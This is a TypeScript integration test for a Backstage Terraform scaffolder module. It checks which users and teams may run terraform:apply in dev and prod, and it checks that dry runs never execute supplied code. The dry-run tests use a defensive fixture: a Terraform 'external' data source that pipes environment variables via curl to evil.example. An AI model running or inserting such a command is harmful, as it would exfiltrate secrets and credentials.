import { createServiceFactory } from '@backstage/backend-plugin-api';
import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import catalogPlugin from '@backstage/plugin-catalog-backend';
import catalogModuleScaffolderEntityModel from '@backstage/plugin-catalog-backend-module-scaffolder-entity-model';
import scaffolderPlugin from '@backstage/plugin-scaffolder-backend';
import {
  createTestCatalog,
  groundworkPermissionFeatures,
} from '@groundwork/backend-test-utils';
import { platformStatusServiceRef } from '@groundwork/plugin-platform-status-node';
import {
  createTerraformStandIn,
  TerraformStandIn,
} from '@groundwork/stand-in-test-utils';
import request from 'supertest';
import {
  MAIN_TF,
  PASSING_PLAN,
  recordingPlatformStatus,
  S3_BACKEND,
} from './__testUtils__/setup';
import module from './index';
import { setTimeout as sleep } from 'node:timers/promises';

jest.setTimeout(120_000);

const PEOPLE = {
  'user:default/alan.turing': ['group:default/payments'],
  'user:default/margaret.hamilton': ['group:default/growth'],
  'user:default/ada.lovelace': ['group:default/platform'],
  'user:default/grace.hopper': ['group:default/sre', 'group:default/payments'],
};

/** Runs terraform:apply for any entity and environment the form is given. */
const TEMPLATE = {
  apiVersion: 'scaffolder.backstage.io/v1beta3',
  kind: 'Template',
  metadata: { name: 'provision', namespace: 'default' },
  spec: {
    type: 'service',
    owner: 'group:default/platform',
    parameters: [
      {
        properties: {
          entityRef: { type: 'string' },
          environment: { type: 'string', enum: ['dev', 'prod'] },
        },
      },
    ],
    steps: [
      {
        id: 'fetch',
        name: 'Fetch',
        action: 'fetch:plain',
        input: { url: './skeleton' },
      },
      {
        id: 'infra',
        name: 'Provision',
        action: 'terraform:apply',
        input: {
          workingDirectory: 'infra',
          entityRef: '${{ parameters.entityRef }}',
          environment: '${{ parameters.environment }}',
          executor: 'cli',
        },
      },
    ],
    output: { result: '${{ steps.infra.output.result }}' },
  },
};

const ENTITIES = [
  ...['payments', 'growth', 'platform', 'sre'].map(name => ({
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Group',
    metadata: { name },
    spec: { type: 'team', children: [] },
  })),
  {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Component',
    metadata: { name: 'payments-api' },
    spec: {
      type: 'service',
      lifecycle: 'production',
      owner: 'group:default/payments',
    },
  },
  TEMPLATE,
];

/**
 * Ownership before action, decided by Groundwork's real policy in the real
 * permission framework: the catalog (reading a file location) applies the
 * owner condition to the entity as it stands, the scaffolder checks dry
 * runs, and terraform:apply asks before it fetches, inits or plans.
 */
describe('who may run terraform:apply, under the real policy', () => {
  let backend: Awaited<ReturnType<typeof startTestBackend>>;
  let tf: TerraformStandIn;
  const status = recordingPlatformStatus();
  const catalog = createTestCatalog(ENTITIES, {
    files: { 'skeleton/infra/main.tf': MAIN_TF },
  });

  beforeAll(async () => {
    tf = createTerraformStandIn({ plan: { file: PASSING_PLAN } });
    backend = await startTestBackend({
      features: [
        catalogPlugin,
        catalogModuleScaffolderEntityModel,
        scaffolderPlugin,
        module,
        ...groundworkPermissionFeatures(PEOPLE),
        mockServices.rootConfig.factory({
          data: {
            backend: { baseUrl: 'http://localhost:7007' },
            permission: { enabled: true },
            catalog: catalog.config,
            scaffolder: { EXPERIMENTAL_gracefulShutdown: true },
            groundwork: {
              permissions: {
                adminGroups: ['group:default/platform'],
                productionGroups: ['group:default/sre'],
              },
              environments: [
                { name: 'dev', monthlyBudget: 500 },
                { name: 'prod', production: true, monthlyBudget: 1000 },
              ],
            },
            terraform: {
              binary: tf.binary,
              pluginCacheDir: tf.pluginCacheDir,
              environments: {
                // dev lets code run external programs: a dry run still runs none.
                dev: { backend: S3_BACKEND, allowPlanTimeCode: ['external'] },
                prod: { backend: S3_BACKEND },
              },
            },
          },
        }),
        createServiceFactory({
          service: platformStatusServiceRef,
          deps: {},
          factory: () => status.service,
        }),
      ],
    });
    await catalog.ready(backend.server);
  });

  afterAll(async () => {
    await backend?.stop();
    tf?.remove();
    catalog.remove();
  });

  beforeEach(() => {
    status.reports.length = 0;
    status.onBehalfOf.length = 0;
  });

  const as = (user: string) => ({
    Authorization: mockCredentials.user.header(user),
  });

  /** Runs the template as `user`; its status, its log and the Terraform calls it made. */
  async function provision(
    user: string,
    values: { entityRef: string; environment: string },
  ) {
    const before = tf.calls().length;
    const created = await request(backend.server)
      .post('/api/scaffolder/v2/tasks')
      .set(as(user))
      .send({ templateRef: 'template:default/provision', values });
    expect(created.status).toBe(201);
    const id = created.body.id;
    let task;
    for (let i = 0; i < 600; i++) {
      task = (
        await request(backend.server)
          .get(`/api/scaffolder/v2/tasks/${id}`)
          .set(as(user))
      ).body;
      if (['completed', 'failed', 'cancelled'].includes(task.status)) break;
      await sleep(100);
    }
    const events = (
      await request(backend.server)
        .get(`/api/scaffolder/v2/tasks/${id}/events`)
        .set(as(user))
    ).body as Array<{ body: { message?: string } }>;
    return {
      status: task.status as string,
      log: events.map(e => e.body.message ?? '').join('\n'),
      terraform: tf.calls().slice(before),
    };
  }

  it('refuses a member of another team, before any Terraform call', async () => {
    const run = await provision('user:default/margaret.hamilton', {
      entityRef: 'component:default/payments-api',
      environment: 'dev',
    });
    expect(run.status).toBe('failed');
    expect(run.log).toContain(
      'NotAllowedError: user:default/margaret.hamilton may not run terraform:apply in dev for component:default/payments-api: only its owners and the platform administrators may (permission groundwork.entity.change)',
    );
    expect(run.terraform).toEqual([]);
    expect(status.reports).toEqual([]);
  });

  it("lets the owning team run it, and reports the run on the person's behalf", async () => {
    const run = await provision('user:default/alan.turing', {
      entityRef: 'component:default/payments-api',
      environment: 'dev',
    });
    expect(run.status).toBe('completed');
    expect(run.terraform.map(c => c.argv[0])).toContain('apply');
    expect(status.reports).toEqual([
      expect.objectContaining({
        entityRef: 'component:default/payments-api',
        result: 'applied',
      }),
    ]);
    expect(status.onBehalfOf[0]?.principal).toMatchObject({
      userEntityRef: 'user:default/alan.turing',
    });
  });

  it('lets anyone create an entity the catalog does not hold yet', async () => {
    const run = await provision('user:default/margaret.hamilton', {
      entityRef: 'component:default/brand-new-api',
      environment: 'dev',
    });
    expect(run.status).toBe('completed');
  });

  it('keeps production to the production groups and the administrators', async () => {
    const owner = await provision('user:default/alan.turing', {
      entityRef: 'component:default/payments-api',
      environment: 'prod',
    });
    expect(owner.status).toBe('failed');
    expect(owner.log).toContain(
      'user:default/alan.turing may not run terraform:apply in prod: prod is a production environment, and changing it is limited to the groups in groundwork.permissions.productionGroups',
    );
    expect(owner.terraform).toEqual([]);

    const sre = await provision('user:default/grace.hopper', {
      entityRef: 'component:default/payments-api',
      environment: 'prod',
    });
    expect(sre.status).toBe('completed');

    const admin = await provision('user:default/ada.lovelace', {
      entityRef: 'component:default/payments-api',
      environment: 'prod',
    });
    expect(admin.status).toBe('completed');
  });

  describe('dry runs', () => {
    const EXTERNAL = `${MAIN_TF}
data "external" "exfiltrate" {
  program = ["sh", "-c", "env | curl -s -d @- https://evil.example/collect"]
}
`;
    const dryRun = (user: string, environment: string) =>
      request(backend.server)
        .post('/api/scaffolder/v2/dry-run')
        .set(as(user))
        .send({
          template: TEMPLATE,
          values: { entityRef: 'component:default/payments-api', environment },
          directoryContents: [
            {
              path: 'skeleton/infra/main.tf',
              base64Content: Buffer.from(EXTERNAL).toString('base64'),
            },
          ],
        });

    it('are refused to someone who is not an administrator', async () => {
      const before = tf.calls().length;
      const res = await dryRun('user:default/alan.turing', 'dev');
      expect(res.status).toBe(403);
      expect(tf.calls()).toHaveLength(before);
    });

    it('never run the code they are given, even code the environment allows', async () => {
      const before = tf.calls().length;
      const res = await dryRun('user:default/ada.lovelace', 'dev');
      expect(res.body.error ?? res.status).toBe(200);
      expect(tf.calls()).toHaveLength(before);
      const log = res.body.log
        .map((l: { body: { message: string } }) => l.body.message)
        .join('\n');
      expect(log).toContain(
        'Dry run: stopped before terraform init. No Terraform process was started',
      );
      expect(log).toContain(
        'Allowed in dev by terraform.environments.dev.allowPlanTimeCode, so a real run would run it: infra/main.tf: data "external" "exfiltrate"',
      );
      expect(res.body.output).toEqual({ result: 'dry-run' });
      expect(status.reports).toEqual([]);
    });

    it('say that a real run would refuse code the environment does not allow', async () => {
      const before = tf.calls().length;
      const res = await dryRun('user:default/ada.lovelace', 'prod');
      expect(tf.calls()).toHaveLength(before);
      expect(JSON.stringify(res.body)).toContain(
        'infra/main.tf: data \\"external\\" \\"exfiltrate\\"',
      );
    });
  });
});
